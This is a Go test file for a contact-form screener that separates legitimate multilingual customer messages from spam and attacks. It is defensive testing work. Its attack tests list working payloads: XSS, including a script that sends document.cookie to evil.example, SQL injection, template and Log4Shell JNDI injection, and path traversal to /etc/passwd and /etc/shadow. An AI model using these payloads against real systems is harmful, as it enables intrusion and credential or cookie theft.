package screen

import "testing"

// messages are what customers write: in their languages, briefly or at length, with
// payloads quoted, with links, with code.
var messages = map[string]string{
	"Afrikaans":      "Goeiedag, ek het nog nie my verslag ontvang nie. Kan u asseblief help?",
	"Albanian":       "Përshëndetje, a mund të auditoni dy faqe me një porosi?",
	"Amharic":        "ሰላም፣ ሪፖርቱ አልደረሰኝም። እባክዎ ይርዱኝ።",
	"Arabic":         "مرحباً، لم يصلني التقرير بعد. هل يمكنكم المساعدة؟",
	"Armenian":       "Բարև ձեզ, ես դեռ չեմ ստացել զեկույցը։",
	"Azerbaijani":    "Salam, sifarişimi necə ləğv edə bilərəm?",
	"Basque":         "Kaixo, faktura bat behar dut nire enpresarako.",
	"Belarusian":     "Добры дзень, ці можна атрымаць рахунак?",
	"Bengali":        "নমস্কার, আমি এখনও রিপোর্ট পাইনি।",
	"Bosnian":        "Dobar dan, da li šaljete račun?",
	"Bulgarian":      "Здравейте, не съм получил доклада си.",
	"Burmese":        "မင်္ဂလာပါ၊ အစီရင်ခံစာ မရသေးပါ။",
	"Catalan":        "Bon dia, necessito la factura amb el meu NIF.",
	"Cherokee":       "ᎣᏏᏲ, ᏙᎯᏧ?",
	"Chinese":        "你好，我还没有收到报告，请帮忙查一下订单。",
	"Chinese, trad.": "您好,請問可以開立發票嗎?",
	"Croatian":       "Pozdrav, zanima me kada stiže izvještaj.",
	"Czech":          "Dobrý den, mohu dostat fakturu?",
	"Danish":         "Hej, kan I scanne et site på port 8443?",
	"Dutch":          "Hallo, ik heb de verkeerde URL ingevuld.",
	"English":        "Hi, I typed the wrong address. Can you change it?",
	"Esperanto":      "Saluton, ĉu vi povas helpi min?",
	"Estonian":       "Tere, ma ei saanud oma aruannet kätte.",
	"Filipino":       "Kumusta po, hindi ko pa natatanggap ang report.",
	"Finnish":        "Hei, raporttini ei ole vielä tullut.",
	"French":         "Bonjour, je n’ai pas reçu l’e-mail. Merci d’avance !",
	"Galician":       "Ola, necesito axuda co meu pedido.",
	"Georgian":       "გამარჯობა, ანგარიში ჯერ არ მიმიღია.",
	"German":         "Guten Tag, bitte stellen Sie die Rechnung auf die Müller & Söhne GmbH aus.",
	"Greek":          "Καλησπέρα, δεν έλαβα την αναφορά.",
	"Gujarati":       "નમસ્તે, મને રિપોર્ટ મળ્યો નથી.",
	"Hausa":          "Sannu, ban karɓi rahoton ba tukuna.",
	"Hawaiian":       "Aloha, makemake au i kōkua.",
	"Hebrew":         "שלום, לא קיבלתי את הדוח. אפשר לבדוק?",
	"Hindi":          "नमस्ते, मुझे रिपोर्ट अभी तक नहीं मिली है।",
	"Hungarian":      "Jó napot, nem kaptam meg a jelentést.",
	"Icelandic":      "Góðan dag, ég hef ekki fengið skýrsluna.",
	"Igbo":           "Ndewo, enwetabeghị m akụkọ ahụ.",
	"Indonesian":     "Halo, apakah bisa bayar dengan kartu lain?",
	"Inuktitut":      "ᐊᐃ, ᐃᑲᔪᕈᓐᓇᖅᐱᖓ?",
	"Irish":          "Dia duit, níor tháinig an tuarascáil fós.",
	"Italian":        "Buongiorno, l'ordine dell'altro ieri non è arrivato.",
	"Japanese":       "お世話になっております。レポートがまだ届いておりません。",
	"Javanese":       "Sugeng enjing, laporanipun dereng dugi.",
	"Kannada":        "ನಮಸ್ಕಾರ, ನನಗೆ ವರದಿ ಸಿಕ್ಕಿಲ್ಲ.",
	"Kazakh":         "Сәлеметсіз бе, есепті әлі алған жоқпын.",
	"Khmer":          "សួស្តី ខ្ញុំមិនទាន់ទទួលបានរបាយការណ៍ទេ។",
	"Korean":         "안녕하세요, 아직 보고서를 받지 못했습니다.",
	"Kurdish":        "Silav, min rapor negirt.",
	"Lao":            "ສະບາຍດີ ຂ້ອຍຍັງບໍ່ໄດ້ຮັບລາຍງານ",
	"Latin":          "Salve, relationem nondum accepi.",
	"Latvian":        "Labdien, es neesmu saņēmis atskaiti.",
	"Lithuanian":     "Laba diena, negavau ataskaitos.",
	"Macedonian":     "Здраво, не го добив извештајот.",
	"Malay":          "Selamat pagi, saya belum terima laporan.",
	"Malayalam":      "നമസ്കാരം, എനിക്ക് റിപ്പോർട്ട് കിട്ടിയില്ല.",
	"Maltese":        "Bonġu, għadni ma rċivejtx ir-rapport.",
	"Maori":          "Kia ora, kāore anō au kia whiwhi i te pūrongo.",
	"Marathi":        "नमस्कार, मला अहवाल मिळाला नाही.",
	"Mongolian":      "Сайн байна уу, тайлан ирээгүй байна.",
	"Nepali":         "नमस्ते, मैले रिपोर्ट पाएको छैन।",
	"Norwegian":      "Hei, får jeg kvittering på e-post?",
	"Odia":           "ନମସ୍କାର, ମୋତେ ରିପୋର୍ଟ ମିଳିନାହିଁ।",
	"Oromo":          "Akkam, gabaasa koo hin arganne.",
	"Pashto":         "سلام، ما لا راپور نه دی ترلاسه کړی.",
	"Persian":        "سلام، هنوز گزارش را دریافت نکرده‌ام.",
	"Polish":         "Dzień dobry, proszę o fakturę z NIP-em.",
	"Portuguese":     "Olá, não recebi o relatório. Podem reenviar?",
	"Punjabi":        "ਸਤ ਸ੍ਰੀ ਅਕਾਲ, ਮੈਨੂੰ ਰਿਪੋਰਟ ਨਹੀਂ ਮਿਲੀ।",
	"Quechua":        "Allillanchu, manaraqmi willakuyta chaskinichu.",
	"Romanian":       "Bună ziua, nu am primit raportul.",
	"Russian":        "Здравствуйте, отчёт не пришёл. Проверьте, пожалуйста.",
	"Samoan":         "Talofa, e leʻi maua laʻu lipoti.",
	"Serbian":        "Добар дан, нисам добио извештај.",
	"Sinhala":        "ආයුබෝවන්, මට වාර්තාව ලැබුණේ නැහැ.",
	"Slovak":         "Dobrý deň, správu som ešte nedostal.",
	"Slovenian":      "Pozdravljeni, poročila še nisem prejel.",
	"Somali":         "Salaan, wali ma helin warbixinta.",
	"Spanish":        "¡Hola! ¿Puedo pagar con transferencia?",
	"Swahili":        "Habari, sijapokea ripoti yangu bado.",
	"Swedish":        "Hej, jag råkade beställa två gånger.",
	"Tajik":          "Салом, ҳисобот нарасид.",
	"Tamil":          "வணக்கம், எனக்கு அறிக்கை கிடைக்கவில்லை.",
	"Telugu":         "నమస్కారం, నాకు నివేదిక రాలేదు.",
	"Thai":           "สวัสดีครับ ยังไม่ได้รับรายงานเลยครับ",
	"Tibetan":        "བཀྲ་ཤིས་བདེ་ལེགས། སྙན་ཞུ་འབྱོར་མ་སོང་།",
	"Tigrinya":       "ሰላም፣ ጸብጻብ ኣይበጽሓንን።",
	"Turkish":        "Merhaba, rapor hâlâ gelmedi. Şifremi de unuttum.",
	"Ukrainian":      "Добрий день, звіт ще не надійшов.",
	"Urdu":           "السلام علیکم، مجھے رپورٹ نہیں ملی۔",
	"Uyghur":         "ياخشىمۇسىز، دوكلات تېخى كەلمىدى.",
	"Uzbek":          "Salom, hisobot hali kelmadi.",
	"Vietnamese":     "Xin chào, tôi chưa nhận được báo cáo.",
	"Welsh":          "Helo, dydw i ddim wedi cael yr adroddiad.",
	"Wolof":          "Salaam aleekum, jotuma rapport bi.",
	"Xhosa":          "Molo, andikayifumani ingxelo.",
	"Yiddish":        "שלום־עליכם, איך האָב נאָך נישט באַקומען דעם באַריכט.",
	"Yoruba":         "Ẹ káàárọ̀, mi ò tíì rí ìròyìn náà gbà.",
	"Zulu":           "Sawubona, angikawutholi umbiko wami.",

	"Hinglish":        "Bhai report abhi tak nahi aaya, please check kar do na",
	"Arabizi":         "3ayez a3raf el report hayewsal emta?",
	"Spanglish":       "Hi, mi order no llegó, can you please check?",
	"mixed scripts":   "Order 注文 заказ طلب: where is it?",
	"emoji":           "🙏🙏🙏",
	"emoji and flags": "👍🏽 🇺🇦 👩‍💻 ❤️‍🔥",
	"kaomoji":         "(╯°□°）╯︵ ┻━┻",
	"morse":           "... --- ...",
	"zalgo":           "H̷̛̘e̶͇͝l̵̡̛p̴̰̕ m̷̨̌e̸̡͊",
	"RTL override":    "\u202ethe report is backwards\u202c",
	"digits":          "42",
	"question mark":   "?",
	"empty":           "",
	"white space":     " \n\t ",
	"shouting":        "WHERE IS MY ORDER!!! SELECT ANOTHER CARD OR WHAT",

	"quotes a script":                 "we found <script>alert(1)</script> on our page",
	"quotes a script, first":          "<script>alert(document.cookie)</script> appears in our comments, can you help?",
	"quotes a script, in Chinese":     "我们的页面上出现了 <script>alert(1)</script>",
	"quotes a script, in German":      "Im Gästebuch steht <script src=//evil.example/x.js></script>",
	"quotes a script, without spaces": "页面上有<script>alert(1)</script>吗？",
	"script tag alone":                "<script>",
	"asks about a script":             "Does the audit find <script> in a name field?",
	"quotes a handler":                `The scanner reported <img src=x onerror=alert(1)> as reflected.`,
	"pastes a button":                 `<button onclick="buy()">Buy</button>`,
	"pastes a snippet":                "<a href=\"/shop\" onclick=\"track('x')\">Shop</a>\n<img src=\"/a.png\" onload=\"done()\">",
	"quotes an injection":             "Your report says that ' OR 1=1 -- works on the login. Which page?",
	"quotes an injection, briefly":    "' OR 1=1 -- works!",
	"quotes Bobby Tables":             "Robert'); DROP TABLE Students;-- haha, nice demo",
	"union in prose":                  "The WAF logged UNION SELECT password FROM users from one address.",
	"union":                           "Our union select committee wants two audits.",
	"quotes a template":               "We saw {{7*7}} rendered as 49 in mails.",
	"quotes log4shell":                "GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1 in the logs since Monday",
	"quotes a traversal":              "Finding 3: ../../../../etc/passwd is readable. Is this a false positive?",
	"quotes a javascript URL":         "javascript:alert(1) in the profile link is executed",
	"says javascript":                 "JavaScript: does the audit look at it?",
	"pastes a mail": "Here is what I got:\n\nFrom: shop@example.org\nTo: me@example.org\n" +
		"Subject: Your order\nBcc: nobody\n\nWhere is the file?",
	"pastes a stack trace":       "panic: runtime error\n\tmain.go:42 +0x1b\nexit status 2",
	"pastes a query":             "SELECT id FROM orders WHERE email = 'me'; -- this is slow, do you tune that too?",
	"mentions nul":               "A parameter with %00 breaks our site.",
	"a link":                     "Please look at https://shop.example.net/?a=1&b=2 first",
	"only a link":                "https://shop.example.net/",
	"their sites":                "https://a.example.net\nhttps://b.example.net\nhttps://c.example.net",
	"an agency's sites":          "Quote please:\nhttps://a.example.net\nhttps://b.example.net\nhttps://c.example.net\nhttps://d.example.net\nhttps://e.example.net\nhttps://f.example.net",
	"a hacked forum":             "Our forum is full of [url=http://x.example/]pills[/url] and [url=http://y.example/]casino[/url]. Can you help?",
	"a hacked forum, in Chinese": "我们的论坛充满了垃圾链接 [url=http://x.example/]a[/url] [url=http://y.example/]b[/url]",
	"one forum link":             "[url=https://shop.example.net/]our shop[/url]",
	"SEO":                        "We are an SEO agency and want to resell your audits to casino clients.",
	"a pharmacy":                 "We sell viagra legally, online pharmacy in Malta, and need a compliance audit.",
}

func TestMessagesPass(t *testing.T) {
	t.Parallel()
	s := screener(t)
	if len(messages) < 60 {
		t.Fatalf("only %d messages", len(messages))
	}
	for name, message := range messages {
		if got := s.Judge(Form{Message: message}); got.Kind != Legitimate {
			t.Errorf("%s: %+v", name, got)
		}
	}
}

func TestMessagesThatAreNothingButAPayload(t *testing.T) {
	t.Parallel()
	s := screener(t)
	for message, want := range map[string]rule{
		"<script>alert(1)</script>":                                     ruleMarkup,
		`"><script>alert(document.cookie)</script>`:                     ruleMarkup,
		"<script src=https://evil.example/x.js></script>":               ruleMarkup,
		"<img src=x onerror=alert(1)>":                                  ruleMarkup,
		"<svg/onload=alert`1`>":                                         ruleMarkup,
		"\n<ScRiPt >fetch('//evil.example/?'+document.cookie)</sCrIpT>": ruleMarkup,
		"javascript:alert(1)":                                           ruleScriptURL,
		"' OR 1=1 --":                                                   ruleSQL,
		"' OR '1'='1":                                                   ruleSQL,
		"1; DROP TABLE customers; --":                                   ruleSQL,
		"' UNION SELECT username, password FROM users--":                ruleSQL,
		"'; WAITFOR DELAY '0:0:5'--":                                    ruleSQL,
		"1' AND SLEEP(5)#":                                              ruleSQL,
		"{{7*7}}":                                                       ruleTemplate,
		"${7*7}":                                                        ruleTemplate,
		"${jndi:ldap://evil.example/a}":                                 ruleTemplate,
		"${${lower:j}ndi:ldap://evil.example/a}":                        ruleTemplate,
		"{{''.__class__.__mro__[1].__subclasses__()}}":                  ruleTemplate,
		"../../../secret.txt":                                           ruleTraversal,
		"file:///etc/shadow":                                            ruleTraversal,
		"../../../../../etc/passwd":                                     ruleTraversal,
	} {
		if got, want := s.Judge(Form{Message: message}), verdict(Attack, FieldMessage, want); got.Kind != want.Kind || got.Reason != want.Reason {
			t.Errorf("%q: %+v, want %+v", message, got, want)
		}
	}
}

func TestSpam(t *testing.T) {
	t.Parallel()
	s := screener(t)
	for name, test := range map[string]struct {
		form Form
		want Verdict
	}{
		"honeypot":          {Form{Name: "Ada", Message: "Hello", Honeypot: "x"}, verdict(Spam, FieldHoneypot, ruleHoneypot)},
		"honeypot, trial":   {Form{Email: "a@example.com", Honeypot: "x"}, verdict(Spam, FieldHoneypot, ruleHoneypot)},
		"honeypot, attack":  {Form{Name: "<script>", Honeypot: "x"}, verdict(Attack, FieldName, ruleMarkup)},
		"five links":        {Form{Message: "http://a.example http://b.example https://c.example http://d.example\nwww.e.example"}, verdict(Spam, FieldMessage, ruleOnlyLinks)},
		"five anchors":      {Form{Message: `<a href="http://a.example">x</a> <a href="http://b.example">y</a> <a href=http://c.example>z</a>, <a href='http://d.example'>1</a> <a href="http://e.example">2</a>`}, verdict(Spam, FieldMessage, ruleOnlyLinks)},
		"two forum links":   {Form{Message: "[url=http://a.example]pills[/url] [url=http://b.example/]casino[/url]"}, verdict(Spam, FieldMessage, ruleOnlyLinks)},
		"all dialects":      {Form{Message: `Hello! <a href="http://a.example">pills</a> [url=http://a.example]pills[/url] [link=http://a.example]pills[/link] http://a.example`}, verdict(Spam, FieldMessage, ruleOnlyLinks)},
		"bare forum links":  {Form{Message: "[url]http://a.example[/url]\n[URL]http://b.example[/URL]"}, verdict(Spam, FieldMessage, ruleOnlyLinks)},
		"four links":        {Form{Message: "http://a.example http://b.example https://c.example http://d.example"}, Verdict{Kind: Legitimate}},
		"five and one word": {Form{Message: "audit http://a.example http://b.example https://c.example http://d.example www.e.example"}, Verdict{Kind: Legitimate}},
	} {
		if got := s.Judge(test.form); got.Kind != test.want.Kind || got.Reason != test.want.Reason || got.Field != test.want.Field {
			t.Errorf("%s: %+v, want %+v", name, got, test.want)
		}
	}
}
